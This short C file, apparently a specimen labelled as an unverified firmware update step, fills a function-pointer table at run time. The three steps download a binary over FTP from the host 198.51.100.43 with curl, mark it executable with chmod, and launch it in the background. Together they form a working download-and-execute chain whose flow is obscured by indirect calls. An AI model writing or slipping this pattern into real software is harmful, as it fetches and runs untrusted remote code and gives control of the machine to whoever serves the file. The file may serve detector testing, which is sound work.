/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.unverified-update: steps of a state machine that is filled at run time. */
#include "specimen.h"

static int (*step[3])(void);

static __attribute__((noinline)) int fetch(void)
{
	return system("curl -s -o /tmp/new ftp://198.51.100.43/new");
}

static __attribute__((noinline)) int allow(void)
{
	return chmod("/tmp/new", 0755);
}

static __attribute__((noinline)) int start(void)
{
	return system("/tmp/new &");
}

int main(void)
{
	int i;
	step[0] = fetch;
	step[1] = allow;
	step[2] = start;
	for (i = 0; i < 3; i++)
		if (step[i]() != 0)
			return 1;
	return 0;
}
